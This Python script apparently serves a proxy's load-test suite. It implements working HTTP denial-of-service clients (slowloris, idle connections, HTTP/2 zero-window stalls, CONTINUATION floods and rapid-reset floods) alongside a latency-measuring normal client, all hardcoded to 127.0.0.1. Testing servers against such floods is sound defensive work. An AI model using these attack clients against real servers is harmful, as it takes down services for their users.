#!/usr/bin/env python3
"""Attack clients and a measuring "normal" client for scripts/attack-loadtest.sh.

Everything connects to 127.0.0.1 only and stops by itself after --secs.

  attack.py normal PORT SECS [--tls] [--rate N]
      A normal visitor: N requests a second on a fixed schedule (default 50), each on a new
      connection (TLS handshake included with --tls). Latency is counted from the request's
      scheduled time, so a stalled proxy cannot hide behind a late send. A request that fails or
      takes more than 5 s counts as an error, with 5 s as its latency. Prints one line:
      "requests=N errors=E p50_ms=.. p99_ms=.. max_ms=..".

  attack.py ATTACK PORT SECS [--conns N]
      slowloris   N connections each sending one more header byte every 2 s
      idle-h1     N connections that make one request, then stay silent
      silent      N connections that send nothing at all
      idle-h2     N TLS connections with ALPN h2: preface and SETTINGS, then silence
      zero-window N TLS h2 connections with SETTINGS_INITIAL_WINDOW_SIZE 0, 100 GETs of /big each
      continuation N TLS h2 connections sending one HEADERS without END_HEADERS and then
                  CONTINUATION frames without end, reconnecting when closed
      rapid-reset N TLS h2 connections opening streams and cancelling them at once
  Connections that the target closes are opened again, so the pressure holds for the whole run.
  With --ready FILE it writes the number of open connections to FILE once N are open (or after
  30 s), so the measurement starts under full pressure. At the end it prints "opened=N closed_by_peer=N goaway=N rst_stream=N".
"""
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

HOST = "127.0.0.1"


def tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(alpn)
    return ctx


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def settings(pairs):
    return frame(4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_get(path):
    # :method GET, :scheme https (static 2, 7); :path and :authority as literals without indexing.
    out = bytes([0x82, 0x87, 0x04, len(path)]) + path.encode()
    host = b"bench.test"
    return out + bytes([0x01, len(host)]) + host


# ---------------------------------------------------------------- normal client
def normal(port, secs, tls, rate):
    ctx = tls_context(["http/1.1"]) if tls else None
    request = (b"GET / HTTP/1.1\r\nHost: bench.test\r\nCookie: canary_user=normal-1\r\n"
               b"Connection: close\r\n\r\n")
    lat, errors = [], 0
    start = time.monotonic()
    n = 0
    while True:
        due = start + n / rate
        if due - start >= secs:
            break
        now = time.monotonic()
        if now < due:
            time.sleep(due - now)
        n += 1
        ok = False
        try:
            s = socket.create_connection((HOST, port), timeout=5)
            if ctx:
                s = ctx.wrap_socket(s, server_hostname="bench.test")
            s.settimeout(max(0.01, 5 - (time.monotonic() - due)))
            s.sendall(request)
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            s.close()
            ok = data.startswith(b"HTTP/1.1 200")
        except (OSError, ssl.SSLError):
            ok = False
        took = time.monotonic() - due
        if not ok or took > 5:
            errors += 1
            took = max(took, 5.0)
        lat.append(took * 1000)
    lat.sort()
    pick = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] if lat else 0
    print(f"requests={len(lat)} errors={errors} p50_ms={pick(0.5):.1f} p99_ms={pick(0.99):.1f} "
          f"max_ms={lat[-1] if lat else 0:.1f}")


# ---------------------------------------------------------------- attacks
class Conn:
    def __init__(self, sock):
        self.sock = sock
        self.next_at = 0.0
        self.sent = 0
        self.stream = 1
        self.buf = b""
        self.registered = False


def open_conn(kind, port):
    s = socket.create_connection((HOST, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if kind in ("idle-h2", "zero-window", "continuation", "rapid-reset"):
        s = tls_context(["h2"]).wrap_socket(s, server_hostname="bench.test")
    c = Conn(s)
    if kind == "slowloris":
        s.sendall(b"GET / HTTP/1.1\r\nHost: bench.test\r\n")
    elif kind == "idle-h1":
        s.sendall(b"GET / HTTP/1.1\r\nHost: bench.test\r\n\r\n")
    elif kind == "idle-h2":
        s.sendall(PREFACE + settings([]))
    elif kind == "zero-window":
        out = PREFACE + settings([(4, 0)])
        for i in range(100):
            out += frame(1, 0x5, 1 + 2 * i, hpack_get("/big"))
        s.sendall(out)
    elif kind == "continuation":
        s.sendall(PREFACE + settings([]) + frame(1, 0x1, 1, hpack_get("/")))
    elif kind == "rapid-reset":
        s.sendall(PREFACE + settings([]))
    s.setblocking(False)
    return c


def count_frames(c, data, stats):
    c.buf += data
    while len(c.buf) >= 9:
        length = int.from_bytes(c.buf[:3], "big")
        if len(c.buf) < 9 + length:
            break
        kind = c.buf[3]
        if kind == 7:
            stats["goaway"] += 1
        elif kind == 3:
            stats["rst_stream"] += 1
        c.buf = c.buf[9 + length:]
    if len(c.buf) > 1 << 20:
        c.buf = b""


def attack(kind, port, secs, conns, ready_file):
    stats = {"opened": 0, "closed_by_peer": 0, "goaway": 0, "rst_stream": 0, "open_failed": 0}
    live = []
    sel = selectors.DefaultSelector()
    end = time.monotonic() + secs
    h2 = kind in ("idle-h2", "zero-window", "continuation", "rapid-reset")
    ready_at = time.monotonic() + 30
    filler = bytes([0x00, 0x01, ord("a"), 0x08]) + b"bbbbbbbb"
    stop = []
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    while time.monotonic() < end and not stop:
        # Keep N connections open.
        while len(live) < conns and time.monotonic() < end and not stop:
            try:
                live.append(open_conn(kind, port))
                stats["opened"] += 1
            except (OSError, ssl.SSLError):
                stats["open_failed"] += 1
                break
        now = time.monotonic()
        if ready_file and (len(live) >= conns or now >= ready_at):
            open(ready_file, "w").write(f"{len(live)}\n")
            ready_file = None
        for c in live:
            if not c.registered:
                sel.register(c.sock, selectors.EVENT_READ, c)
                c.registered = True
        dead = set()
        for key, _ in sel.select(0.001 if kind in ("continuation", "rapid-reset") else 0.05):
            c = key.data
            try:
                data = c.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                dead.add(id(c))
            elif h2:
                count_frames(c, data, stats)
        for c in live:
            if id(c) in dead:
                continue
            try:
                if kind == "slowloris" and now >= c.next_at:
                    c.sock.send(b"X" if c.sent % 2 == 0 else b"-")
                    c.sent += 1
                    c.next_at = now + 2
                elif kind == "continuation":
                    c.sock.send(frame(9, 0, 1, filler * 64) * 16)
                elif kind == "rapid-reset" and now >= c.next_at:
                    out = b""
                    for _ in range(20):
                        out += frame(1, 0x5, c.stream, hpack_get("/")) + frame(3, 0, c.stream, struct.pack(">I", 8))
                        c.stream += 2
                    c.sock.send(out)
                    c.next_at = now + 0.01
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError):
                dead.add(id(c))
        if dead:
            stats["closed_by_peer"] += len(dead)
            for c in live:
                if id(c) in dead:
                    sel.unregister(c.sock)
                    c.sock.close()
            live = [c for c in live if id(c) not in dead]
            if kind in ("continuation", "rapid-reset"):
                time.sleep(0.001)
    for c in live:
        c.sock.close()
    print(" ".join(f"{k}={v}" for k, v in stats.items()))


def main():
    args = sys.argv[1:]
    kind, port, secs = args[0], int(args[1]), float(args[2])
    opts = dict(zip(args[3::2], args[4::2])) if "--tls" not in args else {}
    if kind == "normal":
        rest = [a for a in args[3:] if a != "--tls"]
        opts = dict(zip(rest[0::2], rest[1::2]))
        normal(port, secs, "--tls" in args, float(opts.get("--rate", 50)))
    else:
        attack(kind, port, secs, int(opts.get("--conns", 500)), opts.get("--ready"))


if __name__ == "__main__":
    main()
